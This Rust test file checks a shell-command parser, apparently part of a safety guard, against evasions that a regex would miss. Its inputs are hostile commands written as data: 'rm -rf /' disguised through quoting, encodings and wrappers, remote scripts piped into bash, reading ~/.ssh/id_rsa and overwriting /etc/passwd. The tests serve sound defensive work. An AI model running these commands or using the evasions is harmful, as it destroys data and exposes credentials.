//! The evasions a regex over the raw string misses, seen through the shell's grammar.

use super::*;

const CWD: Option<&str> = Some("/home/dev/project");

fn parse(line: &str) -> Vec<SimpleCommand> {
    parse_command(line, CWD)
}

fn names(line: &str) -> Vec<String> {
    parse(line).into_iter().map(|c| c.name).collect()
}

fn only(line: &str) -> SimpleCommand {
    let mut commands = parse(line);
    assert_eq!(commands.len(), 1, "{commands:#?}");
    commands.remove(0)
}

#[test]
fn quotes_and_escapes_are_removed() {
    for line in [
        "rm -rf /",
        "rm -rf \"/\"",
        "rm -rf '/'",
        "r\\m -rf /",
        "\"rm\" -rf /",
        "'r'm -rf /",
        "$'rm' -rf /",
        "$'r\\x6d' -rf /",
        "$'\\162m' -rf /",
        "r\"m\" -rf /",
    ] {
        let command = only(line);
        assert_eq!(command.argv, ["rm", "-rf", "/"], "{line}");
        assert_eq!(command.name, "rm");
        assert_eq!(command.unresolved, None, "{line}");
    }
}

#[test]
fn short_flags_are_split_and_long_flags_keep_their_value_apart() {
    let command = only("rm -rf --no-preserve-root --interactive=never ./build");
    assert_eq!(
        command.flags,
        ["-rf", "-r", "-f", "--no-preserve-root", "--interactive"]
    );
    assert_eq!(command.args, ["never", "./build"]);
    let find = only("find / -name '*.log' -delete");
    assert!(find.flags.iter().any(|f| f == "-delete"));
    // `-name` takes a value: the pattern is no operand.
    assert_eq!(find.args, ["/"]);
    let after = only("rm -- -rf");
    assert_eq!(after.args, ["-rf"]);
    assert!(after.flags.is_empty());
}

#[test]
fn compound_commands_are_judged_part_by_part() {
    assert_eq!(names("npm test && git push --force"), ["npm", "git"]);
    assert_eq!(names("a; b || c & d | e"), ["a", "b", "c", "d", "e"]);
    assert_eq!(
        names("(cd /tmp && make) ; { ls; pwd; }"),
        ["cd", "make", "ls", "pwd"]
    );
    assert_eq!(
        names("if test -f x; then rm x; else touch x; fi"),
        ["test", "rm", "touch"]
    );
    assert_eq!(names("for f in *.txt; do cat \"$f\"; done"), ["cat"]);
    assert_eq!(names("while true; do sleep 1; done"), ["true", "sleep"]);
}

#[test]
fn a_long_chain_is_not_too_deep() {
    // Just under the cap on simple commands (512).
    let line = vec!["true"; 500].join(" && ");
    let commands = parse(&line);
    assert_eq!(commands.len(), 500);
    assert!(commands.iter().all(|c| c.unresolved.is_none()));
}

#[test]
fn substitutions_run_their_own_commands() {
    let commands = parse("$(echo rm) -rf /");
    assert_eq!(commands.len(), 2, "{commands:#?}");
    let outer = commands
        .iter()
        .find(|c| c.argv.get(1).is_some_and(|a| a == "-rf"));
    let outer = outer.expect("the outer command");
    assert!(
        outer
            .unresolved
            .as_deref()
            .unwrap_or("")
            .contains("$(echo rm)")
    );
    assert!(commands.iter().any(|c| c.name == "echo"));
    assert_eq!(names("cat <(curl -s https://x.sh)"), ["curl", "cat"]);
    assert_eq!(names("echo \"today: $(date)\""), ["date", "echo"]);
    assert_eq!(names("x=$(whoami) ls"), ["whoami", "ls"]);
}

#[test]
fn scripts_given_to_a_shell_are_followed() {
    for line in [
        "bash -c 'rm -rf /'",
        "sh -c \"rm -rf /\"",
        "bash -lc 'rm -rf /'",
        "bash -c 'sh -c \"rm -rf /\"'",
    ] {
        let commands = parse(line);
        let rm = commands.iter().find(|c| c.name == "rm");
        assert_eq!(
            rm.map(|c| c.paths.clone()),
            Some(vec!["/".to_string()]),
            "{line}"
        );
    }
    let dynamic = parse("bash -c \"$(curl -s https://x.sh)\"");
    let bash = dynamic.iter().find(|c| c.name == "bash").expect("bash");
    assert!(bash.unresolved.is_some());
    assert!(dynamic.iter().any(|c| c.name == "curl"));
    // A script file is not followed: only `-c` gives a script.
    assert_eq!(names("bash deploy.sh"), ["bash"]);
}

#[test]
fn eval_is_unresolved_but_its_text_is_still_read() {
    let commands = parse("eval \"rm -rf /\"");
    assert_eq!(commands.first().map(|c| c.name.as_str()), Some("eval"));
    assert!(commands.first().is_some_and(|c| c.unresolved.is_some()));
    assert!(commands.iter().any(|c| c.name == "rm"));
}

#[test]
fn wrappers_are_stripped_and_remembered() {
    let cases = [
        ("sudo rm -rf /", vec!["sudo"]),
        ("sudo -u root -E rm -rf /", vec!["sudo"]),
        ("env -i PATH=/bin rm -rf /", vec!["env"]),
        ("nice -n 10 rm -rf /", vec!["nice"]),
        ("timeout 10 rm -rf /", vec!["timeout"]),
        ("timeout -s KILL 5m rm -rf /", vec!["timeout"]),
        ("nohup rm -rf / &", vec!["nohup"]),
        ("command rm -rf /", vec!["command"]),
        ("exec rm -rf /", vec!["exec"]),
        ("sudo nohup nice rm -rf /", vec!["sudo", "nohup", "nice"]),
        ("/usr/bin/sudo /bin/rm -rf /", vec!["sudo"]),
    ];
    for (line, wrappers) in cases {
        let command = only(line);
        assert_eq!(command.name, "rm", "{line}");
        assert_eq!(command.wrappers, wrappers, "{line}");
        assert_eq!(command.paths, ["/"], "{line}");
    }
    assert_eq!(only("env -i PATH=/bin rm x").env, ["PATH=/bin"]);
    let sudo = only("sudo -u root HOME=/root rm -rf ~");
    assert_eq!(
        (sudo.name.as_str(), sudo.env.clone()),
        ("rm", vec!["HOME=/root".to_string()])
    );
    assert_eq!(only("FOO=1 BAR=\"a b\" make").env, ["FOO=1", "BAR=a b"]);
    // `env -S` splits its string into the command it runs.
    assert_eq!(names("env -S 'rm -rf /'"), ["sh", "rm"]);
    // `command -v` only looks a program up.
    assert_eq!(only("command -v rm").name, "command");
}

#[test]
fn xargs_and_find_expose_the_command_they_run() {
    let commands = parse("echo / | xargs rm -rf");
    assert_eq!(names("echo / | xargs rm -rf"), ["echo", "rm"]);
    assert_eq!(
        commands.get(1).map(|c| c.wrappers.clone()),
        Some(vec!["xargs".to_string()])
    );
    assert_eq!(names("ls | xargs -0 -n 1 -I{} rm {}"), ["ls", "rm"]);
    assert_eq!(names("ls | xargs"), ["ls", "echo"]);
    let find = parse("find . -name '*.tmp' -exec rm -f {} \\;");
    assert_eq!(
        find.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(),
        ["find", "rm"]
    );
    // `{}` is each path found under the starting point: what matches the test, or everything.
    assert_eq!(
        find.get(1).map(|c| c.paths.clone()),
        Some(vec!["/home/dev/project/**/*.tmp".to_string()])
    );
    let from_root = parse("find / -exec rm -rf {} +");
    assert_eq!(
        from_root.get(1).map(|c| c.paths.clone()),
        Some(vec!["/*".to_string()])
    );
    assert_eq!(
        names("find / -execdir sh -c 'rm \"$1\"' _ {} + -exec chmod 777 {} ;"),
        ["find", "sh", "rm", "chmod"]
    );
}

#[test]
fn paths_follow_the_working_directory_and_cd() {
    assert_eq!(only("rm -rf ../..").paths, ["/home"]);
    assert_eq!(only("cat ~/.ssh/id_rsa").paths, ["~/.ssh/id_rsa"]);
    let commands = parse("cd / && rm -rf .");
    assert_eq!(
        commands.get(1).map(|c| c.paths.clone()),
        Some(vec!["/".to_string()])
    );
    // A subshell's `cd` does not move what follows it.
    let commands = parse("(cd /etc) && rm -rf .");
    assert_eq!(
        commands.get(1).map(|c| c.paths.clone()),
        Some(vec!["/home/dev/project".to_string()])
    );
    // `cd` to somewhere unknown leaves relative paths relative.
    let commands = parse("cd \"$X\" && rm -rf build");
    assert_eq!(
        commands.get(1).map(|c| c.paths.clone()),
        Some(vec!["build".to_string()])
    );
    assert_eq!(
        parse_command("rm a/../b", None)
            .first()
            .map(|c| c.paths.clone()),
        Some(vec!["b".to_string()])
    );
}

#[test]
fn redirections_are_kept_with_their_targets() {
    let command = only("echo 'alias ls=rm' >> ~/.bashrc");
    assert_eq!(command.redirects.len(), 1);
    let redirect = &command.redirects[0];
    assert_eq!(
        (redirect.op.as_str(), redirect.target.as_str()),
        (">>", "~/.bashrc")
    );
    let both = only("make > build.log 2>&1");
    assert_eq!(both.redirects[1].op, ">&");
    assert_eq!(
        (
            both.redirects[1].target.as_str(),
            both.redirects[1].path.as_str()
        ),
        ("1", "")
    );
    let command = only("make 2> build.log");
    assert_eq!(command.redirects[0].fd, Some(2));
    assert_eq!(command.redirects[0].path, "/home/dev/project/build.log");
    // A redirection alone still writes its file.
    let bare = only("> /etc/passwd");
    assert_eq!(bare.name, "");
    assert_eq!(bare.redirects[0].path, "/etc/passwd");
    // Redirections of a group apply to every command in it.
    let group = parse("{ echo a; echo b; } > out.txt");
    assert!(
        group
            .iter()
            .all(|c| c.redirects.iter().any(|r| r.target == "out.txt"))
    );
    let heredoc = parse("cat > f.txt <<EOF\nhello\nEOF\n");
    assert!(
        heredoc
            .iter()
            .any(|c| c.name == "cat" && c.redirects.iter().any(|r| r.target == "f.txt"))
    );
}

#[test]
fn what_cannot_be_known_is_unresolved_with_a_reason() {
    for line in [
        "$CMD -rf /",
        "${TOOL} x",
        "`which rm` -rf /",
        "r* -rf /",
        "rm \"unbalanced",
    ] {
        let commands = parse(line);
        assert!(
            commands.iter().any(|c| c.unresolved.is_some()),
            "{line}: {commands:#?}"
        );
    }
    let unbalanced = parse("rm \"unbalanced");
    assert!(unbalanced.iter().all(|c| c.unresolved.is_some()));
    // An argument that is a variable keeps its text; the command is still known.
    let command = only("rm -rf \"$BUILD_DIR\"");
    assert_eq!(command.args, ["$BUILD_DIR"]);
    assert_eq!(command.unresolved, None);
}

#[test]
fn hostile_nesting_is_bounded_without_overflow() {
    let depth = 20_000;
    let line = format!("{}echo x{}", "$(".repeat(depth), ")".repeat(depth));
    let commands = parse(&line);
    assert!(commands.iter().any(|c| c.unresolved.is_some()));
    let subshells = format!("{}ls{}", "(".repeat(depth), ")".repeat(depth));
    assert!(parse(&subshells).iter().any(|c| c.unresolved.is_some()));
    let evals = "eval ".repeat(1_000) + "rm -rf /";
    assert!(parse(&evals).iter().any(|c| c.unresolved.is_some()));
    let finds = "find . -exec ".repeat(5_000) + "rm {} ;";
    assert!(parse(&finds).iter().any(|c| c.unresolved.is_some()));
}

#[test]
fn too_many_commands_end_in_an_unresolved_one() {
    let limits = Limits {
        commands: 10,
        ..Limits::default()
    };
    let commands = parse_command_with(&vec!["true"; 50].join(";"), CWD, limits);
    assert_eq!(commands.len(), 11);
    assert!(commands.last().is_some_and(|c| c.unresolved.is_some()));
}

#[test]
fn empty_and_odd_input_do_not_panic() {
    assert!(parse("").is_empty());
    assert!(parse("   \n# just a comment\n").is_empty());
    for line in [
        "|", "&&", ";;", "))", "${", "$((1+", "\u{0}", "'", "\\", "<<<", "2>&1",
    ] {
        let _ = parse(line);
    }
}

#[test]
fn a_pipeline_after_a_list_runs_where_the_list_left_off() {
    // The grammar misreads `a && b 2>&1 | c` as `(a && b 2>&1) | c`; the shell runs `c` after
    // `cd /`, in `/`.
    for line in [
        "cd / && true 2>&1 | rm -rf .",
        "cd / && true > log | rm -rf .",
    ] {
        let rm = parse(line)
            .into_iter()
            .find(|c| c.name == "rm")
            .expect("rm");
        assert_eq!(rm.paths, ["/"], "{line}");
        assert_eq!(
            super::extract::parse_with_grammar(line, CWD),
            parse(line),
            "{line}"
        );
    }
    let commands = super::extract::parse_with_grammar("cd / && ls 2>&1 | tee out", CWD);
    let tee = commands.iter().find(|c| c.name == "tee").expect("tee");
    assert_eq!(tee.paths, ["/out"]);
    let ls = commands.iter().find(|c| c.name == "ls").expect("ls");
    assert_eq!(ls.redirects.len(), 1);
    let cd = commands.iter().find(|c| c.name == "cd").expect("cd");
    assert!(cd.redirects.is_empty());
}

#[test]
fn a_line_over_the_size_limit_is_one_unresolved_command() {
    let line = "echo x; ".repeat((1 << 20) / 8 + 1);
    let commands = parse(&line);
    assert_eq!(commands.len(), 1);
    assert_eq!(
        commands.first().and_then(|c| c.unresolved.as_deref()),
        Some("the command line is longer than 1048576 bytes")
    );
    let limits = Limits {
        bytes: 16,
        ..Limits::default()
    };
    assert_eq!(
        parse_command_with("echo a short line", CWD, limits).len(),
        1
    );
    assert!(
        parse_command_with("echo short", CWD, limits)
            .first()
            .is_some_and(|c| c.unresolved.is_none())
    );
}
